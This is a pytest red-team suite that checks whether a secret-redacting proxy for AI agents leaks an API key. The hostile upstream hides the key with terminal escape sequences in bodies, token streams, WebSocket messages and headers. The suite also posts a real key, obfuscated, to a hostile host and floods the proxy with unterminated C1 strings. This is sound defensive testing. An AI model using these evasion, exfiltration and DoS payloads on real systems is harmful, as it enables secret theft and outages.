"""Red team 23: attacks on a real ``sandgate proxy`` from outside (world: tests/proxy/test_redteam.py).

Each test asserts an invariant; a failing test names a break. What broke, fixed since: the
skeleton read escape sequences only as a terminal does, so ``ESC`` before each character (gone to a
printable-only cleaner, with the character kept) and CAN or SUB aborting a sequence (dropped before
the sequence was read, so the sequence took the next character) hid the key, in bodies, token
deltas, WebSocket messages and request bodies to unbound hosts; a run of unterminated C1 strings
cost time quadratic in their number (64 KiB: 49 s). Left as stated: a terminal's cursor moves.
Clients: a VT500-parser terminal
(vt100.net's DEC ANSI parser, as xterm/tmux read bytes: CAN/SUB abort a sequence, C0 controls
inside ESC/CSI execute, BS/CR/HT/CSI C/D/G/K move or erase), strip-ansi (ansi-regex 6), a
``str.isprintable`` cleaner, and strip-ansi then that cleaner.
"""

from __future__ import annotations

import contextlib
import json
import time

import pytest

from tests.conftest import needs_root
from tests.proxy import test_redteam as world
from tests.proxy.core.test_runs import longest_run
from tests.proxy.test_redteam import HOST, HOSTILE_NAME, fetch, parse_frames, recv_all, ws_handshake, ws_open
from tests.proxy.test_redteam15 import agent_body
from tests.proxy.test_redteam16 import printable, strip_ansi
from tests.proxy.test_redteam22 import _ws_messages
from tests.support.hostile import HostileServer, Request, Wire, ws_frame
from tests.support.proxyproc import ProxyProcess

pytestmark = needs_root

hostile_ca, hostile, rt = world.hostile_ca, world.hostile, world.rt

RUN = 16

# -- clients ------------------------------------------------------------------------------------


def vt(text: str) -> str:
    """The screen of a terminal reading ``text`` (DEC VT500 parser states; xterm and tmux agree on
    these): CAN/SUB abort any sequence; C0 controls inside ESC/CSI execute; strings (DCS, OSC, SOS,
    PM, APC) end at BEL/ST/CAN/SUB/ESC; BS, CR, HT (stops every 8), CSI C/D/G move, CSI K erases."""
    lines: list[str] = []
    line: list[str] = []
    col = 0
    state, params, inter = "ground", "", ""

    def put(c: str) -> None:
        nonlocal col
        while len(line) < col:
            line.append(" ")
        if col < len(line):
            line[col] = c
        else:
            line.append(c)
        col += 1

    def execute(c: str) -> None:
        nonlocal col
        if c == "\n":
            lines.append("".join(line))
            line.clear()
            col = 0
        elif c == "\r":
            col = 0
        elif c == "\b":
            col = max(0, col - 1)
        elif c == "\t":
            col = (col // 8 + 1) * 8

    def csi(final: str) -> None:
        nonlocal col
        first = params.split(";")[0]
        n = int(first) if first.isdigit() else 0
        if inter:
            return
        if final == "C":
            col += max(1, n)
        elif final == "D":
            col = max(0, col - max(1, n))
        elif final == "G":
            col = max(1, n) - 1
        elif final == "K":
            if n == 0:
                del line[col:]
            elif n == 2:
                line.clear()

    for c in text:
        o = ord(c)
        if o in (0x18, 0x1A):
            state = "ground"
            continue
        if o == 0x1B:
            state, params, inter = "escape", "", ""
            continue
        if 0x80 <= o <= 0x9F:
            params, inter = "", ""
            state = "csi" if o == 0x9B else "str" if o in (0x90, 0x98, 0x9D, 0x9E, 0x9F) else "ground"
            continue
        if state == "ground":
            if o < 0x20:
                execute(c)
            elif o != 0x7F:
                put(c)
        elif state == "escape":
            if o < 0x20:
                execute(c)
            elif o == 0x7F:
                pass
            elif c == "[":
                state = "csi"
            elif c in "]PX^_":
                state = "str"
            elif o <= 0x2F:
                inter += c
                state = "escint"
            else:
                state = "ground"
        elif state == "escint":
            if o < 0x20:
                execute(c)
            elif o <= 0x2F:
                inter += c
            elif o != 0x7F:
                state = "ground"
        elif state == "csi":
            if o < 0x20:
                execute(c)
            elif 0x30 <= o <= 0x3F:
                params += c
            elif 0x20 <= o <= 0x2F:
                inter += c
            elif 0x40 <= o <= 0x7E:
                csi(c)
                state = "ground"
        elif state == "str" and o in (0x07, 0x9C):
            state = "ground"
    lines.append("".join(line))
    return "\n".join(lines)


CLIENTS = {
    "raw": lambda t: t,
    "terminal": vt,
    "strip-ansi": strip_ansi,
    "printable": printable,
    "strip-ansi+printable": lambda t: printable(strip_ansi(t)),
}


def worst(text: str) -> dict[str, int]:
    """The longest run of the key each client reads of ``text``."""
    return {name: longest_run(read(text).encode(), HOST.real) for name, read in CLIENTS.items()}


def assert_no_leak(text: str, what: str) -> None:
    runs = worst(text)
    print(f"\n[{what}] longest key run per client: {runs} (key {len(HOST.real)} chars)")
    bad = {k: v for k, v in runs.items() if v >= RUN}
    assert not bad, f"{what}: a client reads a run of the key: {bad}"


def _respond(ctype: str, body: bytes, chunked: bool = False) -> bytes:
    if chunked:
        framing = "Transfer-Encoding: chunked"
        payload = b"".join(b"%x\r\n%s\r\n" % (len(body[i : i + 5]), body[i : i + 5]) for i in range(0, len(body), 5))
        payload += b"0\r\n\r\n"
    else:
        framing, payload = f"Content-Length: {len(body)}", body
    return f"HTTP/1.1 200 OK\r\nContent-Type: {ctype}\r\n{framing}\r\n\r\n".encode() + payload


def got(raw: bytes) -> bytes:
    return agent_body(raw) if raw.startswith(b"HTTP/1.1 200") else b""


def body_answer(hostile: HostileServer, rt: ProxyProcess, path: str, ctype: str, make, chunked: bool = False) -> bytes:
    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        await w.send(_respond(ctype, make(req.token), chunked))

    raw = fetch(rt, path)
    print(f"\n[{path}] status: {raw[:15]!r}")
    return got(raw)


# == (a) filler a client drops, or acts on ===========================================================

# Each: the key's characters, each with something before it.
SPREADS = {
    # ESC then the character: the skeleton reads "ESC r" as an escape (final byte r) and drops r; a
    # str.isprintable cleaner drops ESC alone and keeps r.
    "esc-before-each": lambda t: "".join("\x1b" + c for c in t),
    # ESC SOH c: the same, the SOH dropped first makes ESC c.
    "esc-soh-before-each": lambda t: "".join("\x1b\x01" + c for c in t),
    # ESC CAN c: CAN aborts the escape (terminal), printable drops both.
    "esc-can-before-each": lambda t: "".join("\x1b\x18" + c for c in t),
    # CSI cut by CAN: the terminal aborts it and prints c; strip-ansi takes "ESC[1", printable the CAN.
    "csi-can-before-each": lambda t: "".join("\x1b[1\x18" + c for c in t),
    "c1-csi-can-before-each": lambda t: "".join("\u009b1\x18" + c for c in t),
    "osc-can-before-each": lambda t: "".join("\x1b]0;x\x18" + c + "\x1b]0;y\x07" for c in t),
    "dcs-sub-before-each": lambda t: "".join("\x1bPq\x1a" + c + "\x1b\\" for c in t),
    # cursor moves (the stated gap: overstrike read nowhere)
    "bs-overwrite": lambda t: "".join("Z\b" + c for c in t),
    "csi-left-overwrite": lambda t: "".join("Z\x1b[D" + c for c in t),
    "cha-overwrite": lambda t: "".join(f"Z\x1b[{i + 1}G" + c for i, c in enumerate(t)),
    "erase-line-overwrite": lambda t: "".join("ZZ\x1b[2D\x1b[K" + c for c in t),
    "cr-then-cursor-forward": lambda t: (
        "\n"
        + "".join(c if i % 2 == 0 else "_" for i, c in enumerate(t))
        + "\r"
        + "".join("\x1b[C" if i % 2 == 0 else c for i, c in enumerate(t))
    ),
}


_CURSOR_MOVES = {
    "bs-overwrite",
    "csi-left-overwrite",
    "cha-overwrite",
    "erase-line-overwrite",
    "cr-then-cursor-forward",
}


@pytest.mark.parametrize("chunked", [False, True], ids=["whole", "chunked5"])
@pytest.mark.parametrize(
    "name",
    [
        pytest.param(
            n,
            marks=pytest.mark.xfail(
                strict=True, raises=AssertionError, reason="a terminal's cursor moves are not read (README: not read)"
            ),
        )
        if n in _CURSOR_MOVES
        else n
        for n in SPREADS
    ],
)
def test_rt23_spread_body(rt: ProxyProcess, hostile: HostileServer, name: str, chunked: bool) -> None:
    path = f"/rt23/spread-{name}-{int(chunked)}"
    body = body_answer(
        hostile,
        rt,
        path,
        "text/plain; charset=utf-8",
        lambda t: ("$ env\nKEY=" + SPREADS[name](t) + "\n").encode(),
        chunked,
    )
    assert_no_leak(body.decode("utf-8", "replace"), name)


# -- the same in token streams -------------------------------------------------------------------

DELTAS = {
    "esc-before-each": lambda t: ["\x1b" + c for c in t],
    "esc-before-each-6": lambda t: ["".join("\x1b" + c for c in t[i : i + 6]) for i in range(0, len(t), 6)],
    "esc-can-before-each": lambda t: ["\x1b\x18" + c for c in t],
    "csi-can-before-each": lambda t: ["\x1b[1\x18" + c for c in t],
}


def _sse(texts: list[str]) -> bytes:
    events = [
        b"data: "
        + json.dumps({"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": t}}]}).encode()
        for t in texts
    ]
    return b"\n\n".join([*events, b"data: [DONE]"]) + b"\n\n"


def _sse_content(body: bytes) -> str:
    out = []
    for line in body.split(b"\n"):
        if line.startswith(b"data: {"):
            with contextlib.suppress(ValueError):
                out.append(json.loads(line[6:])["choices"][0]["delta"].get("content") or "")
    return "".join(out)


@pytest.mark.parametrize("name", list(DELTAS))
def test_rt23_spread_sse_deltas(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    """A chat completion stream, the key's characters in deltas, each after filler: the openai SDK
    joins ``delta.content``; the caller prints it / cleans it."""
    path = f"/rt23/sse-{name}"
    body = body_answer(hostile, rt, path, "text/event-stream", lambda t: _sse(DELTAS[name](t)))
    assert_no_leak(_sse_content(body), f"sse {name}")


JSON_BODIES = {
    "csi-can-before-each": lambda t: "".join("\x1b[1\x18" + c for c in t),
    "c1-csi-can-before-each": lambda t: "".join("\u009b1\x18" + c for c in t),
}


@pytest.mark.parametrize("name", list(JSON_BODIES))
def test_rt23_spread_json_error_body(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    """An ``application/json`` error whose message holds the key (JSON-escaped controls, as
    ``json.dumps`` writes them); the client prints ``error.message``."""
    path = f"/rt23/json-{name}"
    body = body_answer(
        hostile,
        rt,
        path,
        "application/json",
        lambda t: json.dumps({"error": {"message": JSON_BODIES[name](t)}}).encode(),
    )
    text = json.loads(body)["error"]["message"] if body else ""
    assert_no_leak(text, f"json {name}")


def _decode_json_message(payload: bytes) -> dict:
    for enc in ("utf-8-sig", "utf-16", "utf-32"):
        try:
            return json.loads(payload.decode(enc))
        except (UnicodeDecodeError, ValueError):
            continue
    return {}


WS_SHAPES = {
    "text-json": (0x1, lambda doc: doc.encode()),
    "binary-json": (0x2, lambda doc: doc.encode()),
    "binary-json-utf16": (0x2, lambda doc: doc.encode("utf-16")),
    "binary-json-utf32": (0x2, lambda doc: doc.encode("utf-32")),
    "binary-json-bom": (0x2, lambda doc: doc.encode("utf-8-sig")),
}


@pytest.mark.parametrize("filler", ["esc-before-each", "csi-can-before-each"])
@pytest.mark.parametrize("shape", list(WS_SHAPES))
def test_rt23_spread_websocket_deltas(rt: ProxyProcess, hostile: HostileServer, shape: str, filler: str) -> None:
    """Realtime-style JSON messages over a WebSocket, one key character (after filler) per delta; the
    client ``json.loads`` each message (Python's json reads UTF-8/16/32 bytes) and joins the deltas."""
    op, enc = WS_SHAPES[shape]
    path = f"/rt23/ws-{shape}-{filler}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        await w.send(ws_handshake(req))
        for piece in DELTAS[filler](req.token):
            doc = json.dumps({"type": "response.output_text.delta", "delta": piece})
            await w.send(ws_frame(op, enc(doc)), pause=0.005)
        await w.send(ws_frame(0x8, b"\x03\xe8"), pause=0.2)
        w.keep = False

    s, buf = ws_open(rt, path)
    head, _, rest = buf.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 101")
    rest += recv_all(s, 5)
    frames, _ = parse_frames(rest)
    msgs = _ws_messages(frames)
    deltas = "".join(str(_decode_json_message(p).get("delta", "")) for _, p in msgs)
    print(f"\n[ws {shape} {filler}] {len(msgs)} messages, closes {[p for _, o, p in frames if o == 8]}")
    assert_no_leak(deltas, f"ws {shape} {filler}")


# -- outbound: a real value toward a host it is not bound to ---------------------------------------

from tests.proxy.test_redteam import API, ask  # noqa: E402

OUT = {
    "esc-before-each": lambda v: "".join("\x1b" + c for c in v),
    "csi-can-before-each": lambda v: "".join("\x1b[1\x18" + c for c in v),
    "esc-can-before-each": lambda v: "".join("\x1b\x18" + c for c in v),
}


@pytest.mark.parametrize("name", list(OUT))
def test_rt23_outbound_spread_to_unbound_host(rt: ProxyProcess, hostile: HostileServer, name: str) -> None:
    """The agent (holding rtapi's real value from any leak) posts it, spread, to the hostile host,
    which rtapi is not bound to; the receiver cleans what it got."""
    body = ("note=" + OUT[name](API.real)).encode()
    req = (
        f"POST /rt23/out/{name} HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\nContent-Type: text/plain; charset=utf-8\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body
    before = len(hostile.requests)
    reply = ask(rt, HOSTILE_NAME, req)
    time.sleep(0.3)
    got_up = [r for r in hostile.requests[before:] if r.path.startswith("/rt23/out/")]
    print(f"\n[out {name}] reply {reply.status} {reply.reason}; upstream got {len(got_up)} requests")
    for r in got_up:
        text = r.body.decode("utf-8", "replace")
        runs = {n: longest_run(f(text).encode(), API.real) for n, f in CLIENTS.items()}
        print(f"  receiver's runs of rtapi's key: {runs}")
        assert max(runs.values()) < RUN, f"rtapi's key reached an unbound host ({name}): {runs}"


# == (b) binary WebSocket messages that are JSON, told from their first bytes =======================

BIN_FIRST = {
    "utf16-bom": lambda doc: [doc.encode("utf-16")],
    "utf16le-nobom": lambda doc: [doc.encode("utf-16-le")],
    "utf16be-nobom": lambda doc: [doc.encode("utf-16-be")],
    "utf32-bom": lambda doc: [doc.encode("utf-32")],
    "utf8-bom": lambda doc: [doc.encode("utf-8-sig")],
    "utf8-bom-split": lambda doc: [b"\xef", b"\xbb", b"\xbf" + doc.encode()],
    "blanks-crlf-tab-fragments": lambda doc: [b"\r\n", b"\t", b" " * 3, doc.encode()],
    "long-blank-first": lambda doc: [b" " * 70000, doc.encode()],
    "ping-between-fragments": lambda doc: [b"", "PING", doc.encode()],
}


@pytest.mark.parametrize("shape", list(BIN_FIRST))
def test_rt23_ws_binary_json_plain_deltas(rt: ProxyProcess, hostile: HostileServer, shape: str) -> None:
    """The key in 8-character deltas (no filler) over binary JSON messages whose first bytes are
    not a UTF-8 ``{`` (UTF-16/32 with or without BOM, a UTF-8 BOM, blanks across fragments, a
    ping between fragments); the client ``json.loads`` each message (bytes: UTF-8/16/32 detected)."""
    path = f"/rt23/wsbin-{shape}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        t = req.token
        await w.send(ws_handshake(req))
        for i in range(0, len(t), 8):
            doc = json.dumps({"type": "response.audio_transcript.delta", "delta": t[i : i + 8]})
            parts = BIN_FIRST[shape](doc)
            frames = b""
            first = True
            for j, p in enumerate(parts):
                if p == "PING":
                    frames += ws_frame(0x9, b"x")
                    continue
                fin = j == len(parts) - 1
                frames += ws_frame(0x2 if first else 0x0, p, fin=fin)
                first = False
            await w.send(frames, pause=0.02)
        await w.send(ws_frame(0x8, b"\x03\xe8"), pause=0.2)
        w.keep = False

    s, buf = ws_open(rt, path)
    head, _, rest = buf.partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 101")
    rest += recv_all(s, 5)
    frames, _ = parse_frames(rest)
    msgs = _ws_messages(frames)
    deltas = "".join(str(_decode_json_message(p).get("delta", "")) for op, p in msgs if op == 0x2)
    print(f"\n[wsbin {shape}] {len(msgs)} messages, closes {[p for _, o, p in frames if o == 8]}")
    assert_no_leak(deltas, f"wsbin {shape}")


# == 4. DoS: C1 control strings that never end (quadratic skeleton) ==================================

import threading  # noqa: E402

from tests.proxy.test_redteam22 import cpu_s, rss_mib, timed_echo  # noqa: E402


@pytest.mark.parametrize("unit", ["c1-osc", "c1-dcs"])
@pytest.mark.parametrize("kib", [16, 64])
def test_rt23_unterminated_c1_strings_cost_bounded_cpu(
    rt: ProxyProcess, hostile: HostileServer, kib: int, unit: str
) -> None:
    """A text/plain answer of ``kib`` KiB that is U+009D (OSC in UTF-8) or U+0090 (DCS) over and
    over, never terminated: the skeleton's C1-string expression tries each opener to the end."""
    opener = {"c1-osc": b"\xc2\x9d", "c1-dcs": b"\xc2\x90"}[unit]
    body = opener * (kib * 1024 // 2)
    path = f"/rt23/c1dos-{unit}-{kib}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        await w.send(_respond("text/plain; charset=utf-8", body))

    others: list[float] = []

    def other() -> None:
        time.sleep(0.5)
        others.append(timed_echo(rt, timeout=180))

    th = threading.Thread(target=other)
    cpu0, rss0, t0 = cpu_s(rt), rss_mib(rt), time.monotonic()
    th.start()
    raw = fetch(rt, path, timeout=300)
    wall = time.monotonic() - t0
    th.join()
    cpu = cpu_s(rt) - cpu0
    print(
        f"\n[c1 dos {unit} {kib} KiB] agent got {raw[:15]!r} ({len(raw)} bytes) after {wall:.1f} s; proxy CPU +{cpu:.1f} s; "
        f"RSS {rss0:.0f}->{rss_mib(rt):.0f} MiB; another agent's echo took {others}"
    )
    assert cpu < 2.0, f"{kib} KiB from one upstream cost {cpu:.1f} s of the proxy's CPU"
    assert all(0 <= o < 2.0 for o in others), f"another agent waited {others} s"


def test_rt23_agent_request_body_of_c1_openers_cost_bounded_cpu(rt: ProxyProcess, hostile: HostileServer) -> None:
    """The same 16 KiB of U+009D as a request body the agent posts (the outbound check reads a body
    held whole through the skeleton too)."""
    body = b"\xc2\x9d" * 8192
    req = (
        f"POST /rt23/out-c1 HTTP/1.1\r\nHost: {HOSTILE_NAME}\r\nContent-Type: text/plain; charset=utf-8\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode() + body
    cpu0, t0 = cpu_s(rt), time.monotonic()
    reply = ask(rt, HOSTILE_NAME, req, timeout=120)
    cpu = cpu_s(rt) - cpu0
    print(
        f"\n[c1 request body 16 KiB] reply {reply.status} after {time.monotonic() - t0:.1f} s; proxy CPU +{cpu:.1f} s"
    )
    assert cpu < 1.0


# == (c) heads: a header field and a 103's field with the key spread inside ===========================


@pytest.mark.parametrize("where", ["final-head", "interim-103", "near-bound"])
def test_rt23_spread_in_response_header(rt: ProxyProcess, hostile: HostileServer, where: str) -> None:
    """``X-Debug: `` + the key with ESC before each character (a header value may hold any byte but
    CR/LF/NUL to llhttp's lenient parser); ``curl -v`` prints it, a cleaner drops the ESCs."""
    path = f"/rt23/hdr-{where}"

    @hostile.on(path)
    async def _(req: Request, w: Wire) -> None:
        v = "".join("\x1b" + c for c in req.token).encode()
        pad = b"X-Pad: " + b"a" * (250 * 1024) + b"\r\n" if where == "near-bound" else b""
        interim = b"HTTP/1.1 103 Early Hints\r\nX-Debug: " + v + b"\r\n\r\n" if where == "interim-103" else b""
        final_field = b"X-Debug: " + v + b"\r\n" if where != "interim-103" else b""
        await w.send(interim + b"HTTP/1.1 200 OK\r\n" + pad + final_field + b"Content-Length: 2\r\n\r\nok")

    raw = fetch(rt, path)
    heads = raw.split(b"\r\n\r\n")
    print(f"\n[hdr {where}] first line {raw[:15]!r}; {len(raw)} bytes")
    text = "\n".join(h.decode("latin-1") for h in heads if b"X-Debug" in h or b"x-debug" in h)
    assert_no_leak(text, f"header {where}")
